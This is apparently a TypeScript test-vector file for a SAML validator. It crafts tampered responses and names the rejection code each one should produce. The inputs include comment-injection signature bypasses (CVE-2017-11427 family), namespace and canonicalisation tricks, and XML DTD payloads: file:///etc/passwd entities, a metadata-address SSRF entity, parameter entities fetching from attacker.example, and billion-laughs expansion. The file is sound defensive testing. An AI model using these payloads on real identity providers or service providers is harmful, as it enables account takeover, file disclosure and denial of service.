import { change, honest, insert, signAssertion, signBoth, signResponse } from '../honest';
import { idpEntityId, serviceProvider } from '../vector';
import { vectors } from './row';
import type { Row } from './row';

const spoilt = 'saml_structure_invalid';
const dtd = 'saml_dtd_forbidden';
const broken = 'saml_xml_invalid';
const duo = 'CVE-2017-11427 to CVE-2017-11430, CVE-2018-0489';

/** Canonical form leaves comments out, so the signature over what the provider wrote still holds. */
const split = (whole: string, first: string) => () => {
  const xml = signAssertion(
    honest({
      nameId: 'user@acme.example.evil.example',
      attributes: { email: ['user@acme.example.evil.example'], groups: ['staff-trainees'] },
    }),
  );
  return xml.replace(whole, () => `${first}<!---->${whole.slice(first.length)}`);
};
const signed = () => signAssertion(honest());
const commented = (old: string, text: string) => () => change(signed(), old, text);

const comments: readonly Row[] = [
  [
    'comment-in-name-id',
    'A comment cuts the NameID user@acme.example<!---->.evil.example short for readers of the first text',
    spoilt,
    split('>user@acme.example.evil.example</saml:NameID>', '>user@acme.example'),
    { reference: duo, heldBy: 'no comment stands in a value' },
  ],
  [
    'comment-in-email',
    'A comment cuts the e-mail attribute short',
    spoilt,
    split('<saml:AttributeValue>user@acme.example.evil.example', '<saml:AttributeValue>user@acme.example'),
    { reference: duo },
  ],
  [
    'comment-in-group',
    'A comment cuts the name of a group short',
    spoilt,
    split('>staff-trainees', '>staff'),
    { reference: duo },
  ],
  [
    'comment-in-audience',
    'A comment cuts the audience short, which would then be ours',
    spoilt,
    () =>
      change(
        signAssertion(honest({ audience: `${serviceProvider.entityId}-other` })),
        `${serviceProvider.entityId}-other</`,
        `${serviceProvider.entityId}<!---->-other</`,
      ),
  ],
  [
    'comment-in-issuer',
    'A comment cuts the issuer of the assertion short',
    spoilt,
    () =>
      change(
        signAssertion(honest({ issuer: `${idpEntityId}.evil.example`, responseIssuer: idpEntityId })),
        `${idpEntityId}.evil`,
        `${idpEntityId}<!---->.evil`,
      ),
  ],
  [
    'comment-in-issuer-of-response',
    'A comment cuts the issuer of the response short',
    spoilt,
    () =>
      change(
        signResponse(honest({ responseIssuer: `${idpEntityId}.evil.example` })),
        `${idpEntityId}.evil`,
        `${idpEntityId}<!---->.evil`,
      ),
  ],
  [
    'comment-first-in-name-id',
    'A comment is the first thing in the NameID',
    spoilt,
    commented('emailAddress">ann', 'emailAddress"><!---->ann'),
  ],
  [
    'comment-last-in-name-id',
    'A comment is the last thing in the NameID',
    spoilt,
    commented('</saml:NameID>', '<!----></saml:NameID>'),
  ],
  [
    'comment-in-context',
    'A comment splits the authentication context',
    spoilt,
    commented('ac:classes:Password', 'ac:classes:<!-- -->Password'),
  ],
  [
    'comment-in-status-message',
    'A comment splits the message of the status',
    spoilt,
    () => change(signAssertion(honest({ statusMessage: 'all is well' })), 'all is', 'all<!-- --> is'),
  ],
  [
    'instruction-in-name-id',
    'A processing instruction cuts the NameID short',
    broken,
    commented('@acme.example</saml:NameID>', '@acme<?x?>.example</saml:NameID>'),
  ],
];

const nameId = '</saml:NameID>';
const markup: readonly Row[] = [
  [
    'element-in-name-id',
    'The NameID, signed so, holds an element beside its text',
    'saml_nameid_invalid',
    () => signAssertion(insert(honest(), nameId, '<x>.evil.example</x>')),
    { heldBy: 'a NameID holds text only' },
  ],
  [
    'element-in-issuer',
    'The issuer of a signed assertion is put around an element',
    'saml_signature_invalid',
    () => change(signed(), new RegExp(`(?<=<saml:Assertion .*)${idpEntityId}`), `${idpEntityId}<x/>`),
  ],
  [
    'namespace-moved',
    'The prefix saml means something else inside of the signed confirmation',
    'saml_signature_invalid',
    () => change(signed(), '<saml:SubjectConfirmation ', '<saml:SubjectConfirmation xmlns:saml="urn:evil" '),
  ],
  [
    'default-namespace-added',
    'A default namespace is declared around unprefixed content of a signed value',
    'saml_signature_invalid',
    () => change(signAssertion(change(honest(), '>staff<', '><x>staff</x><')), '<x>', '<x xmlns="urn:evil">'),
  ],
  [
    'prefix-of-type-moved',
    'The prefix of an xsi:type value is bound elsewhere, which only a prefix list would have covered',
    'saml_signature_invalid',
    () =>
      change(
        signAssertion(typed(), { prefixList: ['xs'] }),
        'xmlns:xs="http://www.w3.org/2001/XMLSchema"',
        'xmlns:xs="urn:evil"',
      ),
    { reference: 'Exclusive C14N 1.0, 2.1' },
  ],
  [
    'line-end-changed',
    'A line end in a signed value became two',
    'saml_signature_invalid',
    () => change(signAssertion(honest({ attributes: { note: ['one\ntwo'] } })), 'one\ntwo', 'one\n\ntwo'),
  ],
  [
    'carriage-return-added',
    'A carriage return, written as a reference, was added to a signed value',
    'saml_signature_invalid',
    () => change(signed(), '>staff<', '>staff&#13;<'),
  ],
  [
    'cdata-added',
    'A CDATA section with more text was added to the signed NameID',
    'saml_signature_invalid',
    () => insert(signed(), nameId, '<![CDATA[.evil.example]]>'),
  ],
  [
    'letter-composed-anew',
    'A letter of the signed NameID is composed of two, which looks the same',
    'saml_signature_invalid',
    () => change(signAssertion(honest({ nameId: 'zo\u00eb@acme.example' })), 'zo\u00eb', 'zoe\u0308'),
  ],
];

function typed(): string {
  const xml = insert(
    honest(),
    ' ID="_a',
    ' xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"',
  );
  return xml.replaceAll('<saml:AttributeValue>', '<saml:AttributeValue xsi:type="xs:string">');
}

const headed =
  (head: string, bend: (xml: string) => string = (xml) => xml) =>
  () =>
    `${head}${bend(signBoth(honest()))}`;
const withEntity = (declarations: string, reference: string) =>
  headed(`<!DOCTYPE r [${declarations}]>`, (xml) => change(xml, '>staff<', `>${reference}<`));
const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
  '',
);

const declarations: readonly Row[] = [
  [
    'doctype',
    'The document has a DOCTYPE that declares nothing',
    dtd,
    headed('<!DOCTYPE Response>'),
    { heldBy: 'no DTD' },
  ],
  ['doctype-in-small-letters', 'The DOCTYPE is in small letters', dtd, headed('<!doctype Response>')],
  [
    'doctype-with-system',
    'The DOCTYPE names a file of the server',
    dtd,
    headed('<!DOCTYPE r SYSTEM "file:///etc/passwd">'),
    { reference: 'CWE-611' },
  ],
  [
    'doctype-with-public',
    'The DOCTYPE names a document on the web',
    dtd,
    headed('<!DOCTYPE r PUBLIC "-//x//y" "https://attacker.example/x.dtd">'),
  ],
  [
    'doctype-behind-declaration',
    'The DOCTYPE follows the XML declaration and a comment',
    dtd,
    headed('<?xml version="1.0"?><!-- --><!DOCTYPE Response>'),
  ],
  [
    'entity-for-value',
    'An entity stands for the name of a group',
    dtd,
    withEntity('<!ENTITY g "owners">', '&g;'),
  ],
  [
    'entity-of-a-file',
    'An entity stands for a file of the server',
    dtd,
    withEntity('<!ENTITY g SYSTEM "file:///etc/passwd">', '&g;'),
    { reference: 'CWE-611' },
  ],
  [
    'entity-of-the-web',
    'An entity stands for an address inside of the network',
    dtd,
    withEntity('<!ENTITY g SYSTEM "http://169.254.169.254/">', '&g;'),
    { reference: 'CWE-918' },
  ],
  [
    'entity-in-signed-value',
    'An entity that is empty when signing and full when reading',
    dtd,
    withEntity('<!ENTITY empty "">', 'staff&empty;'),
  ],
  [
    'parameter-entity',
    'A parameter entity fetches a DTD',
    dtd,
    headed('<!DOCTYPE r [<!ENTITY % d SYSTEM "https://attacker.example/x.dtd"> %d;]>'),
  ],
  [
    'billion-laughs',
    'Entities that hold each other ten times over',
    dtd,
    withEntity(`<!ENTITY l0 "ha">${laughs}`, '&l9;'),
    { reference: 'CWE-776' },
  ],
  [
    'quadratic-entity',
    'One long entity, named many times',
    dtd,
    withEntity(`<!ENTITY l "${'a'.repeat(2000)}">`, '&l;'.repeat(500)),
    { reference: 'CWE-776' },
  ],
  [
    'default-attribute',
    'The DTD gives every NameID another Format by default',
    dtd,
    headed('<!DOCTYPE r [<!ATTLIST saml:NameID Format CDATA "urn:x">]>'),
    { reference: 'Canonical XML 1.0, 4.1' },
  ],
  [
    'declared-id-attribute',
    'The DTD makes another attribute the ID',
    dtd,
    headed('<!DOCTYPE r [<!ATTLIST x any ID #IMPLIED>]>'),
  ],
  ['notation', 'The DTD declares a notation', dtd, headed('<!DOCTYPE r [<!NOTATION n SYSTEM "x">]>')],
  [
    'undeclared-entity',
    'A value names an entity that nobody declared',
    broken,
    () => change(signed(), '>staff<', '>st&aring;ff<'),
  ],
  [
    'html-entity',
    'A value names an entity of HTML',
    broken,
    () => change(signed(), '>staff<', '>staff&nbsp;<'),
  ],
];

export const canonicalTricks = [
  ...vectors(['SML-3'], [...comments, ...markup]),
  ...vectors(['SML-10'], declarations),
];
